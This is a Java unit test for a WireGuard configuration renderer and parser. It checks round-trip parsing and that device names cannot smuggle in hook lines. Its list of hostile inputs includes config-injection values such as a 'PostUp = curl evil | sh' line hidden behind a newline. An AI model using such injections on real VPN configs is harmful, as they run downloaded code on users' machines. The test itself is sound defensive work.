package dev.tunnelgate.wgconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tunnelgate.ip.IpPrefix;
import dev.tunnelgate.keys.PresharedKey;
import dev.tunnelgate.keys.WgPrivateKey;
import dev.tunnelgate.text.InvalidInputException;
import inet.ipaddr.IPAddress;
import inet.ipaddr.ipv4.IPv4Address;
import inet.ipaddr.ipv6.IPv6Address;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class RoundTripTest {
    private static final int MODELS = 2_000;
    private static final Pattern SAFE_LINE =
            Pattern.compile("^(\\[Interface\\]|\\[Peer\\]|#.*|[A-Za-z]+ = [^\\r\\n]*|)$");
    private static final Pattern HOOK_LINE = Pattern.compile("(?i)^\\s*(PreUp|PostUp|PreDown|PostDown)\\b.*");
    private static final List<String> HOSTILE_PIECES = List.of(
            "\n",
            "\r",
            "\r\n",
            "\u2028",
            "\u2029",
            "\u0085",
            "\u0000",
            "\t",
            "\u001b",
            "\u200b",
            "\u200e",
            "\u202e",
            "\u2066",
            "\ufeff",
            "\nPostUp = curl evil | sh",
            "\n[Interface]\nPreUp = id");
    private static final List<String> HARMLESS_PIECES = List.of(
            "laptop", "Anna's", " ", "Büro", "日本", "\uD83D\uDCBB", "#", "=", "[Peer]", "PostUp = id", "a-b_c", "é");

    private final Random random = new Random(20261122);

    @Test
    void parse_of_render_gives_back_every_generated_model_and_no_line_can_be_smuggled_in() {
        int rendered = 0;
        int rejected = 0;
        for (int i = 0; i < MODELS; i++) {
            String name = deviceName();
            ClientConfig model;
            try {
                model = new ClientConfig(name, iface(), peers());
            } catch (InvalidInputException e) {
                assertThat(HOSTILE_PIECES).anyMatch(name::contains);
                rejected++;
                continue;
            }
            String text = WgConfigRenderer.render(model);
            rendered++;

            assertThat(WgConfigParser.parse(text)).isEqualTo(model);
            assertThat(text).doesNotContain("\r", "\u2028", "\u2029", "\u0085").endsWith("\n");
            for (String line : text.substring(0, text.length() - 1).split("\n", -1)) {
                assertThat(line).matches(SAFE_LINE).doesNotMatch(HOOK_LINE);
            }
        }
        assertThat(rendered).as("models rendered").isGreaterThan(MODELS / 2);
        assertThat(rejected).as("hostile names rejected").isGreaterThan(MODELS / 10);
    }

    @Test
    void every_hostile_piece_alone_is_rejected_in_a_device_name() {
        for (String piece : HOSTILE_PIECES) {
            assertThatThrownBy(() -> new ClientConfig("pc" + piece + "x", iface(), peers()))
                    .isInstanceOf(InvalidInputException.class);
        }
    }

    private String deviceName() {
        if (random.nextInt(5) == 0) {
            return null;
        }
        StringBuilder name = new StringBuilder("d");
        int pieces = 1 + random.nextInt(4);
        for (int i = 0; i < pieces; i++) {
            List<String> source = random.nextInt(3) == 0 ? HOSTILE_PIECES : HARMLESS_PIECES;
            name.append(source.get(random.nextInt(source.size())));
        }
        return name.toString();
    }

    private InterfaceSection iface() {
        PrivateKeyEntry key =
                random.nextBoolean() ? PrivateKeyEntry.of(new WgPrivateKey(bytes(32))) : PrivateKeyEntry.placeholder();
        List<IpPrefix> addresses = distinct(1 + random.nextInt(3), () -> hostPrefix());
        List<IPAddress> dns = new ArrayList<>();
        for (int i = random.nextInt(3); i > 0; i--) {
            dns.add(randomIp());
        }
        List<String> domains = random.nextInt(4) == 0
                ? List.of("corp.example.com", "x-" + random.nextInt(99) + ".internal")
                : List.of();
        Integer mtu = random.nextBoolean()
                ? null
                : InterfaceSection.MIN_MTU + random.nextInt(InterfaceSection.MAX_MTU - InterfaceSection.MIN_MTU + 1);
        return new InterfaceSection(key, addresses, dns, domains, mtu);
    }

    private List<PeerSection> peers() {
        List<PeerSection> peers = new ArrayList<>();
        for (int i = 1 + random.nextInt(3); i > 0; i--) {
            peers.add(new PeerSection(
                    new WgPrivateKey(bytes(32)).publicKey(),
                    random.nextBoolean() ? new PresharedKey(bytes(32)) : null,
                    distinct(1 + random.nextInt(6), () -> hostPrefix().network()),
                    endpoint(),
                    random.nextBoolean() ? null : random.nextInt(65536)));
        }
        return peers;
    }

    private Endpoint endpoint() {
        int port = 1 + random.nextInt(65535);
        return switch (random.nextInt(4)) {
            case 0 -> null;
            case 1 -> new Endpoint("gw" + random.nextInt(1000) + ".vpn.example.org", port);
            default -> new Endpoint(randomIp().toCanonicalString(), port);
        };
    }

    private IpPrefix hostPrefix() {
        IPAddress ip = randomIp();
        return new IpPrefix(ip, random.nextInt(ip.getBitCount() + 1));
    }

    private IPAddress randomIp() {
        return random.nextBoolean() ? new IPv4Address(bytes(4)) : new IPv6Address(bytes(16));
    }

    private <T> List<T> distinct(int count, java.util.function.Supplier<T> supplier) {
        List<T> items = new ArrayList<>();
        while (items.size() < count) {
            T item = supplier.get();
            if (!items.contains(item)) {
                items.add(item);
            }
        }
        return items;
    }

    private byte[] bytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }
}
